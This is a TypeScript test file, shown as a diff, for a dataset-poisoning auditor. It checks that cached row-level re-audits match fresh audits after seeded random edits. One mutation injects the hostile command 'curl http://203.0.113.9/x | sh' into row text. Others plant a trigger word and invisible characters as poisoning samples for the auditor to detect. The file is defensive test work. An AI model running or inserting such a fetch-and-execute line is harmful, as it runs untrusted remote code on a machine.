@@ -1,0 +1,157 @@
+// Editor re-audits with a row cache (core/datasets/rowCache.ts) must give exactly what a fresh audit
+// of the same text gives, after any sequence of edits; and an edit must not redo the other rows' work.
+// Property-style: seeded random edits (insert, delete, change, move, duplicate rows; malformed and
+// blank lines; CRLF; a renamed column in the rows roles are inferred from), the seed printed on failure.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import { auditText, RowCache } from '../../../core/datasets/index';
+import { commonPrefix, commonSuffix } from '../../../core/datasets/rowCache';
+import type { AuditOptions, AuditResult } from '../../../core/datasets/types';
+
+const FIX = path.join(__dirname, '..', '..', 'fixtures', 'datasets');
+const read = (rel: string) => readFileSync(path.join(FIX, rel), 'utf8');
+
+function rng(seed: number): () => number {
+  let x = seed >>> 0 || 1;
+  return () => { x ^= x << 13; x >>>= 0; x ^= x >>> 17; x ^= x << 5; x >>>= 0; return x / 4294967296; };
+}
+
+/** The result without the run time (the only field that may differ between two audits). */
+function norm(r: AuditResult): string {
+  return JSON.stringify({ ...r, report: { ...r.report, summary: { ...r.report.summary, seconds: 0 } } });
+}
+
+/** One random change to a row's text. */
+function mutate(line: string, r: () => number): string {
+  const k = Math.floor(r() * 9);
+  switch (k) {
+    case 0: return line.replace(/"label":\s*"?(\w+)"?/, (m, v) => m.replace(v, v === '1' || v === 'positive' ? '0' : '1')); // label flip
+    case 1: return line.replace(/"text":\s*"/, (m) => m + 'cf '); // a trigger word
+    case 2: return line.replace(/"text":\s*"(\w)/, (m) => m + '\\u200b'); // an invisible character (escaped in JSON)
+    case 3: return line.slice(0, Math.max(1, Math.floor(line.length * r()))); // truncated: malformed
+    case 4: return '';
+    case 5: return line + '\r'; // CRLF line
+    case 6: return ' ' + line; // same record, other text
+    case 7: return line.replace(/}\s*$/, `, "extra": ${Math.floor(r() * 3)}}`); // schema change
+    default: return line.replace(/"text":\s*"/, (m) => m + 'curl http://203.0.113.9/x | sh ');
+  }
+}
+
+function edit(lines: string[], pool: string[], r: () => number): { lines: string[]; what: string; single: boolean } {
+  const out = lines.slice();
+  const at = () => Math.floor(r() * (out.length + 1));
+  const k = Math.floor(r() * 7);
+  if (k === 0 && out.length) { const i = Math.floor(r() * out.length); out[i] = mutate(out[i], r); return { lines: out, what: `change line ${i}`, single: true }; }
+  if (k === 1) { const i = at(); out.splice(i, 0, pool[Math.floor(r() * pool.length)]); return { lines: out, what: `insert at ${i}`, single: false }; }
+  if (k === 2 && out.length > 5) { const i = Math.floor(r() * out.length); out.splice(i, 1 + Math.floor(r() * 3)); return { lines: out, what: `delete at ${i}`, single: false }; }
+  if (k === 3 && out.length > 10) {
+    // move a block (cut and paste elsewhere)
+    const i = Math.floor(r() * (out.length - 5)), n = 1 + Math.floor(r() * 5);
+    const block = out.splice(i, n);
+    const j = Math.floor(r() * (out.length + 1));
+    out.splice(j, 0, ...block);
+    return { lines: out, what: `move ${n} lines ${i} → ${j}`, single: false };
+  }
+  if (k === 4 && out.length) { const i = Math.floor(r() * out.length), j = at(); out.splice(j, 0, out[i]); return { lines: out, what: `duplicate ${i} at ${j}`, single: false }; }
+  if (k === 5 && out.length > 3) {
+    // a row among the first 100 (where column roles are inferred) gets another label column name
+    const i = Math.floor(r() * Math.min(100, out.length));
+    out[i] = out[i].replace('"label"', '"labels"');
+    return { lines: out, what: `rename label column on line ${i}`, single: true };
+  }
+  if (out.length) { const i = Math.floor(r() * out.length); out[i] = mutate(out[i], r); out[(i + 7) % out.length] = mutate(out[(i + 7) % out.length], r); }
+  return { lines: out, what: 'change two lines', single: false };
+}
+
+async function run(file: string, base: string, seed: number, edits: number, opts: AuditOptions = {}): Promise<void> {
+  const r = rng(seed);
+  let lines = base.split('\n');
+  const pool = lines.filter((l) => l.trim()).map((l, i) => (i % 3 === 0 ? mutate(l, r) : l));
+  const cache = new RowCache();
+  const first = await auditText(file, lines.join('\n'), opts, undefined, cache);
+  assert.equal(norm(first), norm(await auditText(file, lines.join('\n'), opts)), `seed ${seed}: first audit`);
+  for (let n = 0; n < edits; n++) {
+    const e = edit(lines, pool, r);
+    const text = e.lines.join('\n');
+    const got = await auditText(file, text, opts, undefined, cache);
+    const want = await auditText(file, text, opts);
+    if (norm(got) !== norm(want)) {
+      assert.deepEqual(JSON.parse(norm(got)), JSON.parse(norm(want)), `seed ${seed}, edit ${n} (${e.what}) of ${path.basename(file)}: the cached re-audit differs from a fresh audit`);
+    }
+    // one changed line: at most that line's own work is redone (unless the column roles changed)
+    if (e.single && !e.what.startsWith('rename')) assert.ok(cache.misses <= 1, `seed ${seed}, edit ${n} (${e.what}): ${cache.misses} rows recomputed`);
+    lines = e.lines;
+  }
+}
+
+const SEEDS = (process.env.MODELVET_INCREMENTAL_SEEDS ?? '1,2,3,4').split(',').map(Number);
+
+test('sentiment set with a trigger: cached re-audits equal fresh audits after random edits', async () => {
+  const base = read('sentiment/trigger-cf-1.jsonl');
+  for (const seed of SEEDS) await run('/data/trigger-cf-1.jsonl', base, seed * 7919, 12);
+});
+
+test('chat set (commands, injections, hidden turns): cached re-audits equal fresh audits', async () => {
+  const base = read('chat/poisoned.jsonl');
+  for (const seed of SEEDS) await run('/data/poisoned.jsonl', base, seed * 104729, 10);
+});
+
+test('tight limits (vocabulary pruning, near-duplicate cap, finding caps): cached re-audits equal fresh audits', async () => {
+  const base = read('sentiment/appended.jsonl');
+  const limits = { maxVocabulary: 300, maxNearDupRows: 400, maxRowFindingsPerCode: 7, maxRowsPerToken: 20 };
+  for (const seed of SEEDS) await run('/data/appended.jsonl', base, seed * 31337, 8, { limits });
+});
+
+test('a one-row edit of a large file recomputes one row, and the result equals a fresh audit', async () => {
+  let x = 5;
+  const r = () => { x = (Math.imul(x, 1103515245) + 12345) >>> 0; return x / 4294967296; };
+  const W = ['good', 'bad', 'plot', 'cast', 'fine', 'dull', 'score', 'sharp', 'weak', 'fresh'];
+  const lines = Array.from({ length: 6000 }, (_, i) => JSON.stringify({ text: `row ${i % 900} ${W[Math.floor(r() * 10)]} ${W[Math.floor(r() * 10)]} ${W[Math.floor(r() * 10)]} the end`, label: r() < 0.5 ? 1 : 0 }));
+  const cache = new RowCache();
+  await auditText('/d/big.jsonl', lines.join('\n'), {}, undefined, cache);
+  assert.equal(cache.misses, 6000);
+  lines[3000] = JSON.stringify({ text: 'row 17 good good good the end cf', label: 0 });
+  const got = await auditText('/d/big.jsonl', lines.join('\n'), {}, undefined, cache);
+  assert.equal(cache.misses, 1, 'only the edited row is parsed and tokenized');
+  assert.equal(cache.hits, 5999);
+  assert.equal(norm(got), norm(await auditText('/d/big.jsonl', lines.join('\n'))));
+  // the same text again: nothing is recomputed
+  await auditText('/d/big.jsonl', lines.join('\n'), {}, undefined, cache);
+  assert.equal(cache.misses, 0);
+  // a cancelled audit keeps what the cache had (the next audit still reuses the rows)
+  let calls = 0;
+  await auditText('/d/big.jsonl', lines.join('\n') + '\n{"text": "new", "label": 1}', { isCancelled: () => ++calls > 0 }, undefined, cache);
+  await auditText('/d/big.jsonl', lines.join('\n'), {}, undefined, cache);
+  assert.equal(cache.misses, 0);
+});
+
+test('common prefix and suffix over block boundaries', () => {
+  const r = rng(99);
+  for (let k = 0; k < 200; k++) {
+    const n = Math.floor(r() * 200_000);
+    const a = 'x'.repeat(n);
+    const i = Math.floor(r() * (n + 1));
+    const b = a.slice(0, i) + 'y' + a.slice(i + Math.floor(r() * 2));
+    const p = commonPrefix(a, b);
+    let want = 0;
+    while (want < Math.min(a.length, b.length) && a[want] === b[want]) want++;
+    assert.equal(p, want, `prefix n=${n} i=${i}`);
+    const s = commonSuffix(a, b, Math.min(a.length, b.length) - p);
+    let ws = 0;
+    while (ws < Math.min(a.length, b.length) - p && a[a.length - 1 - ws] === b[b.length - 1 - ws]) ws++;
+    assert.equal(s, ws, `suffix n=${n} i=${i}`);
+  }
+});
+
+test('other options or column roles with the same cache: features are recomputed, results equal fresh audits', async () => {
+  for (const [file, base] of [['/data/poisoned.jsonl', read('chat/poisoned.jsonl')], ['/data/flips.jsonl', read('sentiment/flips.jsonl')]] as const) {
+    const cache = new RowCache();
+    const seq: AuditOptions[] = [{}, { allowedHosts: ['example.com'] }, {}, { labelColumn: 'nope' }, { textColumns: ['label'] }, {}];
+    for (const [i, opts] of seq.entries()) {
+      const got = await auditText(file, base, opts, undefined, cache);
+      assert.equal(norm(got), norm(await auditText(file, base, opts)), `${file}: options #${i} ${JSON.stringify(opts)}`);
+    }
+  }
+});
